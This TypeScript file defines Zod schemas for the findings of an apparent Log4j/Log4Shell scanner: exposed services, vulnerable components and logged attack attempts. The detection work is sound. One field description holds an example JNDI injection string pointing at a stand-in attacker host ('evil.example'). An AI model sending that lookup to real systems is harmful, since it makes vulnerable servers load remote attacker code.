import { z } from 'zod'
import { outcomes, rungs } from '../core/index.ts'

/** @internal Moments in every shape of the contract. */
export const moment = z.iso.datetime().describe('ISO 8601, UTC')
const endpoint = z.object({ address: z.string(), port: z.int().min(0).max(65_535) })
const channel = z.enum(['dns', 'ldap', 'ldaps', 'rmi', 'http', 'https', 'unknown'])
const point = z.object({ kind: z.string(), name: z.string() })

/** What every finding says, whatever it is about. */
const claim = {
  schema: z.literal('fireline.finding/1'),
  id: z.string().describe('The same thing has the same id in every run'),
  title: z.string(),
  severity: z.enum(['critical', 'high', 'medium', 'low', 'info']),
  cves: z.array(
    z.object({
      id: z.string().regex(/^CVE-\d{4}-\d{4,}$/),
      status: z.enum(['affected', 'not_affected', 'fixed', 'under_investigation']),
      because: z.string(),
      justification: z
        .enum([
          'component_not_present',
          'vulnerable_code_not_present',
          'vulnerable_code_not_in_execute_path',
          'vulnerable_code_cannot_be_controlled_by_adversary',
          'inline_mitigations_already_exist',
        ])
        .optional()
        .describe('In the words of VEX; only with not_affected'),
    }),
  ),
  by: z.string(),
  seenAt: moment,
  remedy: z.string(),
}

const exposureEvidence = z.discriminatedUnion('kind', [
  z.object({
    kind: z.literal('callback'),
    channel,
    did: z.string().describe("What was done, in the protocol's own word"),
    asked: z.string().nullable(),
    from: endpoint,
    to: endpoint,
    at: moment,
    delayMs: z.number().min(0),
    rawHex: z.string().regex(/^([0-9a-f]{2})*$/),
  }),
  z.object({ kind: z.literal('delivery'), payload: z.string(), status: z.int().nullable(), sentAt: moment }),
])

const exposureSchema = z
  .object({
    ...claim,
    kind: z.literal('exposure'),
    at: z.object({ url: z.string(), point }),
    proof: z.enum(rungs),
    band: z.enum(['A', 'B', 'C', 'D']).nullable(),
    callback: z.object({
      channel,
      from: endpoint,
      source: z.enum(['target', 'resolver', 'other']),
      at: moment,
      delayMs: z.number().min(0),
    }),
    egress: z.array(z.string()),
    identity: z
      .object({ hostName: z.string().optional(), javaVersion: z.string().optional(), os: z.string().optional() })
      .nullable(),
    evidence: z.array(exposureEvidence).min(1),
  })
  .describe('A web service that evaluates lookups in what a client sends')

const says = z.string().describe('In a few words')
const entry = z.string().describe('From the scanned root inward, or inside the component')

const componentEvidence = z.discriminatedUnion('kind', [
  z.object({
    kind: z.literal('class'),
    path: entry,
    className: z.string().describe('Its own name, as its bytes say'),
    role: z.string().describe('What it is, whatever it is called'),
    shows: z.array(z.string()),
  }),
  z.object({
    kind: z.literal('fingerprint'),
    path: entry,
    crc32: z.string().regex(/^[0-9a-f]{8}$/),
    size: z.int().min(0).describe('Bytes, uncompressed'),
    releases: z.array(z.string()).describe('Those that have exactly this class'),
  }),
  z.object({ kind: z.literal('metadata'), path: entry, says }),
  z.object({ kind: z.literal('configuration'), path: entry, line: z.int().min(1).nullable(), says }),
  z.object({ kind: z.literal('contradiction'), says, sources: z.array(z.string()) }),
  z.object({ kind: z.literal('process'), pid: z.int().min(0), says }),
  z.object({ kind: z.literal('declaration'), path: entry, says }),
  z.object({
    kind: z.literal('layer'),
    image: z.string(),
    layer: z.int().min(1).describe('From 1, the lowest'),
    digest: z.string().nullable(),
    createdBy: z.string().nullable().describe('The command that made the layer'),
    says,
  }),
])

const componentSchema = z
  .object({
    ...claim,
    kind: z.literal('component'),
    at: z.object({ path: z.string().describe('From the outermost file inward; each ! is one level of nesting') }),
    component: z.object({
      product: z.enum([
        'log4j-core',
        'log4j-api',
        'log4j-1.2-api',
        'log4j-layout-template-json',
        'log4j',
        'reload4j',
        'logback-core',
        'logback-classic',
      ]),
      purl: z.string().describe('Package URL (ECMA-427)'),
      version: z.string().nullable().describe('null: the bytes do not say exactly one'),
      versionRange: z.string().nullable().describe('A VERS range, where the bytes only allow one'),
      identifiedBy: z.array(z.enum(['class-bytes', 'fingerprint', 'metadata', 'declaration'])),
      mitigations: z.array(z.string()).describe('What was done to take a way in away'),
      packageRoot: z.string().nullable().describe('The common start of its class names, with slashes'),
    }),
    evidence: z.array(componentEvidence).min(1),
  })
  .describe('A library found in files, and what each advisory says of it')

const attackEvidence = z.discriminatedUnion('kind', [
  z.object({
    kind: z.literal('log'),
    source: z.string(),
    line: z.int().min(1).nullable(),
    byteOffset: z.int().min(0),
    says,
    text: z.string().describe('The record itself, shortened'),
  }),
  z.object({
    kind: z.literal('decoding'),
    layers: z.array(z.string()).describe('What was undone, the outermost first'),
    text: z.string(),
  }),
  z.object({
    kind: z.literal('witness').describe('A record of another log that shows what came of the attempt'),
    source: z.string(),
    line: z.int().min(1).nullable(),
    byteOffset: z.int().min(0),
    format: z.string(),
    when: moment.nullable().describe('As the record says'),
    says,
    text: z.string().describe('The record itself, shortened'),
  }),
])

const lookup = z.object({
  raw: z.string().describe('As written, shortened where it is very long'),
  meaning: z.string().describe('What a vulnerable Log4j looks up: jndi:ldap://evil.example:1389/a'),
  scheme: z.string().nullable(),
  host: z.string().nullable(),
  port: z.int().min(0).nullable().describe('As written: there are names with ports that do not exist'),
  path: z.string().nullable(),
  domain: z.string().nullable().describe('Of ldap:///dc=…: the domain whose SRV records are asked for the server'),
  reads: z.array(z.string()).describe('Values of the process that are read on the way'),
  times: z.int().min(0).describe('Lookups for one logged message'),
})

const attackSchema = z
  .object({
    ...claim,
    kind: z.literal('attack'),
    at: z.object({
      source: z.string().describe('The log; each ! is one level of nesting, - is standard input'),
      line: z.int().min(1).nullable(),
      byteOffset: z.int().min(0).describe('Of the record, in the innermost file, unpacked'),
    }),
    when: moment.nullable().describe('As the record says'),
    from: z.string().nullable().describe('The address it came from, as the record says'),
    request: z.string().nullable(),
    userAgent: z.string().nullable(),
    field: z.string().nullable(),
    format: z.string(),
    verdict: z.enum(['fires', 'attempt', 'dos', 'evidence']),
    because: z.string(),
    firesOn: z.array(z.enum(['A', 'B', 'C', 'D'])).describe('Bands of releases'),
    needsJdk: z.enum(['legacy', 'compat']).nullable(),
    lookup,
    traits: z.array(z.enum(['laundering', 'suppression', 'truncated', 'cut'])),
    leaks: z.array(z.object({ read: z.string(), into: z.string(), secret: z.boolean() })),
    carries: z.array(z.string()).describe('Commands and addresses of a second stage, decoded, defanged'),
    outcome: z.enum(outcomes),
    scanner: z.string().nullable(),
    evidence: z.array(attackEvidence).min(1),
  })
  .describe('An attack on a lookup, or the trace of one that was evaluated, in a log')

/**
 * A finding, whatever the format. Only ever extended within `/1`: readers must bear members, and kinds, that they do
 * not know.
 *
 * @public
 */
export const findingSchema = z
  .discriminatedUnion('kind', [exposureSchema, componentSchema, attackSchema])
  .describe('A claim about one subject, with everything it rests on')
